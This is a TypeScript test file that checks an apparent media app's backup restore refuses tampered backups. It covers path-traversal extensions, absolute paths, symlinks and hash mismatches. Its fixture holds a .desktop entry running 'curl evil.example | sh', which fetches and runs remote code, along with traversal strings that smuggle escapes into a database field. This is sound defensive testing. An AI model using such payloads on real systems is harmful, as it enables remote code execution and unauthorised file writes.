import { createHash } from 'node:crypto';
import { cpSync, existsSync, mkdirSync, mkdtempSync, readFileSync, readdirSync, renameSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { dirname, join } from 'node:path';
import Database from 'better-sqlite3';
import { afterAll, describe, expect, it } from 'vitest';
import { folderSnapshot } from '../testing/folder-snapshot';
import { noisePng } from '../testing/fixtures';
import { seedGeneration, seedShopSession } from '../testing/seed';
import { createTempCore } from '../testing/temp-core';
import { unwrap } from '../testing/unwrap';

const work = mkdtempSync(join(tmpdir(), 'adstudio-restore-'));
const cores: ReturnType<typeof createTempCore>[] = [];
afterAll(async () => {
  await Promise.all(cores.map((core) => core.dispose()));
  rmSync(work, { recursive: true, force: true });
});

let folders = 0;
/** A fresh folder per test, so files a broken restore writes beside the data folder are its own. */
const freshFolder = (name: string): string => {
  folders += 1;
  const dir = join(work, `${name}-${folders}`);
  mkdirSync(dir, { recursive: true });
  return dir;
};

/** A core whose data folder sits in a folder of its own, so anything written beside it is seen. */
const newCore = (dataDir = join(freshFolder('target'), 'data')) => {
  const core = createTempCore({ dataDir });
  cores.push(core);
  return core;
};

const sha256 = (bytes: Buffer | string): string => createHash('sha256').update(bytes).digest('hex');
const sharded = (root: string, sha: string, name: string): string => join(root, 'media', sha.slice(0, 2), sha.slice(2, 4), name);

/** Two photos used by a generation, so they are library content, not collectable imports. */
async function addPhotos(core: ReturnType<typeof newCore>, photos: Buffer[]) {
  const db = core.database.db();
  const { shop, session } = seedShopSession(db);
  const stored = [];
  for (const bytes of photos) stored.push((await core.media.importOne({ kind: 'bytes', bytes })).media);
  seedGeneration(db, { shopId: shop.id, sessionId: session.id }, { kind: 'image', outputs: stored.map((media, variantIndex) => ({ variantIndex, format: '1:1' as const, sha256: media.sha256 })) });
  return stored;
}

/** A real backup of a real library, made by the core itself. */
async function makeBackup(photos: Buffer[]) {
  const source = newCore();
  const stored = await addPhotos(source, photos);
  const backup = unwrap<{ folder: string }>(await source.call('library.backup', { destination: freshFolder('backups') }));
  return { folder: backup.folder, stored };
}

function editBackupDb(folder: string, edit: (db: Database.Database) => void): void {
  const db = new Database(join(folder, 'adstudio.db'));
  edit(db);
  db.close();
}

/** A media row the core never wrote: an unreferenced import, as a tampered backup would carry. */
const insertRow = (folder: string, sha: string, ext: string): void =>
  editBackupDb(folder, (db) => db.prepare('INSERT INTO media (sha256, ext, mime, bytes, width, height, created_at) VALUES (?, ?, ?, 1, 1, 1, 0)').run(sha, ext, 'image/png'));

const writeFileAt = (path: string, bytes: Buffer | string): void => {
  mkdirSync(dirname(path), { recursive: true });
  writeFileSync(path, bytes);
};

const stagingLeftovers = (dataDir: string): string[] => {
  const temp = join(dataDir, 'media', '.tmp');
  return existsSync(temp) ? readdirSync(temp) : [];
};

/** What a restore must leave untouched; the log and SQLite's shared-memory index change on their own. */
const snapshot = (dataDir: string) => folderSnapshot(dataDir, ['logs', 'adstudio.db-shm']);

/** Restores into a populated library and asserts it refused with BACKUP_INVALID, changing nothing. */
async function expectRefused(folder: string, target = newCore()) {
  await addPhotos(target, [await noisePng()]);
  await target.maintain();
  const before = snapshot(target.dataDir);
  const envelope = await target.call('library.restore', { source: folder });
  expect(envelope).toMatchObject({ ok: false, error: { code: 'BACKUP_INVALID' } });
  expect(snapshot(target.dataDir)).toEqual(before);
  return target;
}

describe('restore: a tampered backup is refused and changes nothing', () => {
  const evil = '[Desktop Entry]\nExec=sh -c "curl evil.example | sh"\n';

  it('refuses a media.ext that climbs out of the data folder, writing nothing there', async () => {
    const { folder } = await makeBackup([await noisePng()]);
    // The old restore read `media/ab/cd/<sha>.x/../../../../../escape/evil.desktop` beside the backup…
    writeFileAt(join(dirname(folder), 'escape', 'evil.desktop'), evil);
    insertRow(folder, sha256(evil), 'x/../../../../../escape/evil.desktop');
    const target = await expectRefused(folder);
    // …and wrote it to the same place beside the data folder.
    expect(existsSync(join(dirname(target.dataDir), 'escape'))).toBe(false);
  });

  it('refuses a media.ext that climbs into the data folder beside the media', async () => {
    const { folder } = await makeBackup([await noisePng()]);
    writeFileAt(join(folder, 'autostart', 'evil.desktop'), evil);
    insertRow(folder, sha256(evil), 'x/../../../../autostart/evil.desktop');
    await expectRefused(folder);
  });

  it('refuses an absolute path and an extension the store never writes', async () => {
    for (const ext of ['/etc/passwd', 'desktop', 'PNG', 'png.exe']) {
      const { folder } = await makeBackup([await noisePng()]);
      const sha = sha256(`${evil}${ext}`);
      writeFileAt(sharded(folder, sha, `${sha}.${ext}`), `${evil}${ext}`);
      insertRow(folder, sha, ext);
      await expectRefused(folder);
    }
  });

  it('refuses a media file that is a link, even to content with the right hash', async () => {
    const { folder, stored } = await makeBackup([await noisePng()]);
    const file = sharded(folder, stored[0]?.sha256 ?? '', `${stored[0]?.sha256}.png`);
    const outside = join(dirname(folder), 'outside.png');
    renameSync(file, outside);
    symlinkSync(outside, file);
    await expectRefused(folder);
  });

  it('refuses a media folder that is a link to a folder elsewhere', async () => {
    const { folder, stored } = await makeBackup([await noisePng()]);
    const shard = join(folder, 'media', stored[0]?.sha256.slice(0, 2) ?? '');
    const elsewhere = join(dirname(folder), 'elsewhere');
    cpSync(shard, elsewhere, { recursive: true });
    rmSync(shard, { recursive: true });
    symlinkSync(elsewhere, shard);
    await expectRefused(folder);
  });

  it('verifies the hash even when the data folder already holds that file', async () => {
    const photo = await noisePng();
    const { folder, stored } = await makeBackup([photo]);
    const sha = stored[0]?.sha256 ?? '';
    writeFileSync(sharded(folder, sha, `${sha}.png`), 'not the photo');
    const target = newCore();
    await addPhotos(target, [photo]);
    await expectRefused(folder, target);
  });

  it('copies nothing when only the last file is bad (all or nothing)', async () => {
    const { folder } = await makeBackup([await noisePng(), await noisePng(), await noisePng()]);
    const db = new Database(join(folder, 'adstudio.db'), { readonly: true });
    const rows = db.prepare('SELECT sha256, ext FROM media').all() as { sha256: string; ext: string }[];
    db.close();
    const last = rows.at(-1);
    writeFileSync(sharded(folder, last?.sha256 ?? '', `${last?.sha256}.${last?.ext}`), 'truncated');
    await expectRefused(folder);
  });
});

describe('restore: files already in the data folder', () => {
  it('replaces a damaged file in the data folder with the verified copy from the backup', async () => {
    const photo = await noisePng();
    const { folder, stored } = await makeBackup([photo]);
    const target = newCore();
    await addPhotos(target, [photo]);
    const sha = stored[0]?.sha256 ?? '';
    const damaged = sharded(target.dataDir, sha, `${sha}.png`);
    writeFileSync(damaged, 'bit rot');
    unwrap(await target.call('library.restore', { source: folder }));
    expect(sha256(readFileSync(damaged))).toBe(sha);
    expect(stagingLeftovers(target.dataDir)).toEqual([]);
  });

  it('restores into an empty data folder and leaves no staging folder behind', async () => {
    const photos = [await noisePng(), await noisePng()];
    const { folder, stored } = await makeBackup(photos);
    const target = newCore();
    unwrap(await target.call('library.restore', { source: folder }));
    for (const media of stored) expect(sha256(readFileSync(sharded(target.dataDir, media.sha256, `${media.sha256}.png`)))).toBe(media.sha256);
    expect(stagingLeftovers(target.dataDir)).toEqual([]);
  });
});
